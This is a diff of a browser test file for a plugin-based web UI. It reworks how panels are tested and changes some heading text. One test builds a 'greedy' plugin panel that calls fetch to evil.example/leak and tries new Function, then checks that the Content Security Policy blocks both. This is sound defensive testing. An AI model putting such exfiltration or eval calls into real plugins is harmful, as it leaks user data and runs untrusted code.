@@ -1,34 +1,17 @@
-// What plugins add to the page: panels that work, one that draws a tool's result, and broken ones that are caught and named.
+// What plugins add to the page: panels, pages, lines and tabs, and what is left once a built-in is switched off.
 import { mkdir, writeFile } from 'node:fs/promises';
 import { join } from 'node:path';
-import type { Page } from 'playwright-core';
 import { expect, test } from 'vitest';
 import type { Contribution } from '../../../builtins/clients/web-ui/app/points/contribution.ts';
 import { root } from '../../helpers/sources.ts';
 import { axeFaults } from './axe-faults.ts';
 import { settled } from './settled.ts';
-import { button, conversation, entries, isIdle, isReady, messageField, reads, say, useBrowser, openPages } from '../../helpers/use-browser.ts';
+import { button, conversation, entries, isIdle, isReady, reads, say, useBrowser, openPages } from '../../helpers/use-browser.ts';
 
 const visit = useBrowser();
 /** What built-ins show, as the page gathers it. */
 const features = import.meta.glob<{ contribution: Contribution }>('../../../builtins/*/*/ui/contribution.tsx', { eager: true });
 const example = (name: string): Record<string, string> => ({ AGENT_PLUGIN_DIR: join(root, 'examples', name) });
-
-/** A plugin with one panel for each text, written as a person would. */
-async function writePanels(home: string, panels: Readonly<Record<string, { readonly slot: string; readonly module: string }>>): Promise<void> {
-  const modules = join(home, 'modules');
-  await mkdir(modules, { recursive: true });
-  await mkdir(join(home, 'plugins'), { recursive: true });
-  const adds: string[] = [];
-  for (const [id, { slot, module }] of Object.entries(panels)) {
-    await writeFile(join(modules, `${id}.mjs`), module);
-    adds.push(`registry.add('ui.panel', ${JSON.stringify({ id, title: `Title of ${id}`, slot, module: join(modules, `${id}.mjs`) })});`);
-  }
-  const text = `export const manifest = { name: 'sad-panels', requires: ['http'] };\nexport function register(registry) {\n  ${adds.join('\n  ')}\n}\n`;
-  await writeFile(join(home, 'plugins', 'sad-panels.mjs'), text);
-}
-
-const fault = (page: Page, id: string) => page.getByRole('group', { name: `Fault in Title of ${id}` });
 
 test('a panel of a plugin has its link and its page, and follows the chat while it runs', async () => {
   const { page, server } = await visit({ environment: example('live-panel'), script: [{ text: 'Something happened.' }, { text: 'And again.' }] });
@@ -97,49 +80,22 @@ test('one plugin from outside has a tool, a line, what it says by itself, a page
   await page.getByLabel('Minutes ahead').waitFor();
 });
 
-test('broken panels are caught where they stand, named with their plugin, and the page goes on', async () => {
-  const { page, server, expectFault } = await visit({
-    prepare: ({ home }) =>
-      writePanels(home, {
-        throws: { slot: 'panel', module: "export function mount() { throw new Error('no luck in mount'); }" },
-        later: { slot: 'panel', module: 'export async function mount() { await 0; throw new Error("no luck later"); }' },
-        syntax: { slot: 'panel', module: 'export function mount( {' },
-        empty: { slot: 'panel', module: 'export const nothing = 1;' },
-        beside: { slot: 'composer', module: "export function mount() { throw new Error('no luck beside'); }" },
-        fine: { slot: 'panel', module: "export function mount(element) { element.textContent = 'I am fine.'; }" },
-      }),
-    script: [{ text: 'Still here.' }],
-  });
-  expectFault(/no luck|SyntaxError|Unexpected token/);
-  await isIdle(page);
-  await fault(page, 'beside').waitFor();
-  await say(page, 'are you there?');
-  await reads(page, 'Still here.');
-  for (const [id, words] of Object.entries({ throws: 'no luck in mount', later: 'no luck later', syntax: /unexpected|syntax/i, empty: /mount/ })) {
-    await page.goto(`${server.url}/#/panel/${id}`);
-    await fault(page, id).getByText('sad-panels').waitFor();
-    await fault(page, id).getByText(words).first().waitFor();
-  }
-  await page.goto(`${server.url}/#/panel/fine`);
-  await page.getByText('I am fine.').waitFor();
-  await page.goto(`${server.url}/#/chat`);
-  await messageField(page).waitFor();
-});
-
 test('a panel cannot load anything from elsewhere, nor run text as code', async () => {
+  const greedy = `export async function mount(element) {
+    const tried = [];
+    await fetch('https://evil.example/leak').catch(() => tried.push('fetch refused'));
+    try { new Function('return 1')(); } catch { tried.push('code refused'); }
+    element.textContent = tried.join(', ');
+  }`;
   const { page, server, expectFault } = await visit({
-    prepare: ({ home }) =>
-      writePanels(home, {
-        greedy: {
-          slot: 'panel',
-          module: `export async function mount(element) {
-            const tried = [];
-            await fetch('https://evil.example/leak').catch(() => tried.push('fetch refused'));
-            try { new Function('return 1')(); } catch { tried.push('code refused'); }
-            element.textContent = tried.join(', ');
-          }`,
-        },
-      }),
+    async prepare({ home }) {
+      const module = join(home, 'greedy-panel.mjs');
+      await mkdir(join(home, 'plugins'));
+      await writeFile(module, greedy);
+      const panel = JSON.stringify({ id: 'greedy', title: 'Greedy', slot: 'panel', module });
+      const manifest = "export const manifest = { name: 'greedy', requires: ['http'] };";
+      await writeFile(join(home, 'plugins', 'greedy.mjs'), `${manifest}\nexport const register = (registry) => registry.add('ui.panel', ${panel});\n`);
+    },
   });
   expectFault(/evil\.example|Content Security Policy|policy:|EvalError|unsafe-eval/);
   await page.goto(`${server.url}/#/panel/greedy`);
@@ -174,9 +130,9 @@ test('built-ins that are switched off leave no trace in the page, whichever they
   const sections = async (): Promise<string[]> => {
     await page.goto(`${server.url}/#/connections`);
     const main = page.getByRole('main');
-    await main.getByRole('heading', { level: 2, name: 'What this workspace brings with it' }).waitFor();
+    await main.getByRole('heading', { level: 2, name: 'Content of this workspace that needs trust' }).waitFor();
     await settled(page);
-    return (await main.getByRole('heading', { level: 2 }).allInnerTexts()).filter((name) => name !== 'What this workspace brings with it');
+    return (await main.getByRole('heading', { level: 2 }).allInnerTexts()).filter((name) => name !== 'Content of this workspace that needs trust');
   };
   await openPages(page);
   for (const name of [...titles, 'Account']) await link(name).waitFor();
